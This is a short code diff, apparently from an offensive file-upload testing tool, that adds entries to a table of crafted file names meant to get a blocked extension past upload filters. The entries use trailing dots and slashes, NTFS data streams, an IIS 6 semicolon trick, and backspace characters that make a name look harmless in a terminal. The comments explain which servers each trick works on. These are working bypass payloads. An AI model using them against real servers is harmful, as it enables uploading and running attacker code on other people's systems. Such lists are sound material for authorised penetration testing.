@@ -32,6 +32,7 @@ from attacks.strategies.patterns import generated, variants
 from attacks.uploads import honest
 
 NAMES = {
+    "dot": b"report.BAD.",
     "dots": b"report.BAD....",
     "blank": b"report.BAD ",
     "blank-encoded": b"report.BAD%20",
@@ -40,9 +41,13 @@ NAMES = {
     "stream-default": b"report.BAD::$DATA",
     "stream-allowed": b"report.BAD:.GOOD",  # leaves an empty report.php on NTFS
     "semicolon": b"report.BAD;.GOOD",
+    "semicolon-asp": b"report.asp;.GOOD",  # IIS 6 runs what stands before it
     "separator": b"report.BAD/.GOOD",
     "separator-backslash": rb"report.BAD\.GOOD",
     "separator-at-end": rb"report.BAD.\\",  # twice: alone it would escape the closing quote
+    "slash-at-end": b"report.BAD/",
+    "slash-and-dot": b"report.BAD/.",
+    "backspaces": b"report.BAD.GOOD\x08\x08\x08\x08",  # a terminal shows "report.php"
     "wildcards": b"report.BAD>>>",  # the Windows search turns these into "any"
     "fragment": b"report.BAD#.GOOD",
     "query": b"report.BAD?.GOOD",
